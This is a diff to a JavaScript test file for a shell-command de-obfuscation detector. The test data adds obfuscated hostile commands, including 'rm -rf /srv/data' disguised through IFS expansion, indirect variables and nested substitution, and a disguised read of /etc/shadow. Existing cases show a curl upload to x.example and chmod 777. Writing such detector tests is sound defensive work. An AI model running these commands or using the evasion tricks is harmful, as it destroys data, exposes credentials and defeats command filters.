@@ -16,6 +16,14 @@ t.test('a command is read as the shell runs it', async (t) => {
     ['r$@m -rf /srv/data', 'rm -rf /srv/data'],
     [`r\${unset}m -rf /srv/data`, 'rm -rf /srv/data'],
     ["x=r; y='m'; $x$y -rf /srv/data", 'x=r; y=m; rm -rf /srv/data'],
+    [`rm\${IFS:0:1}-rf\${IFS%%?}/srv/data`, 'rm -rf /srv/data'],
+    [`v=IFS; rm\${!v}-rf\${!v:0:1}/srv/data`, 'v=IFS; rm -rf /srv/data'],
+    ["$(printf '%s' rm) -rf /srv/data", 'rm -rf /srv/data'],
+    ['`printf rm` -rf /srv/data', 'rm -rf /srv/data'],
+    ['$($(printf echo) rm) -rf /srv/data', 'rm -rf /srv/data'],
+    ['$(echo $(echo $(echo rm))) -rf /srv/data', 'rm -rf /srv/data'],
+    [`less \${HOME:0:1}etc\${PWD::1}shadow`, 'less /etc/shadow'],
+    ['"command":"x=rm;$x -rf /srv"', 'command:"x=rm;rm -rf /srv"'],
     ["c'ur'l https://x.example -d @notes", 'curl https://x.example -d @notes'],
   ];
   for (const [written, run] of commands) t.equal(withoutDisguise(written), run, written);
@@ -32,6 +40,7 @@ t.test('a program counts where only its disguise hides it', async (t) => {
   t.same(asked('r\\m -rf /srv'), ['DESTRUCTIVE']);
   t.same(asked("cu''rl https://x.example"), ['EXFILTRATION']);
   t.same(asked('ch\\mod 777 /srv'), ['PRIVILEGE_ESCALATION']);
+  t.same(asked(`less \${PWD:0:1}etc\${PWD:0:1}shadow`), ['EXFILTRATION']);
   t.same(asked('rm -rf "$HOME/cache"'), [], 'it is written as it is');
   t.same(asked('Use `curl` or `wget` to fetch "pages".'), [], 'it has no argument');
 });
@@ -42,4 +51,6 @@ t.test('what it makes of a text is bounded', async (t) => {
   t.equal(withoutDisguise(`${' '.repeat(20_000)}r\\m -rf /`), undefined, 'it ends at 16,384 characters');
   const many = Array.from({ length: 40 }, (_, at) => `v${at}=x`).join(';');
   t.equal(withoutDisguise(`${many};$v0$v39`), `${many};x`, '32 variables are known');
+  const deep = `${'$(echo '.repeat(20)}rm${')'.repeat(20)}`;
+  t.ok(withoutDisguise(deep)?.startsWith('$(echo '), 'what stands in each other is read up to a bound');
 });
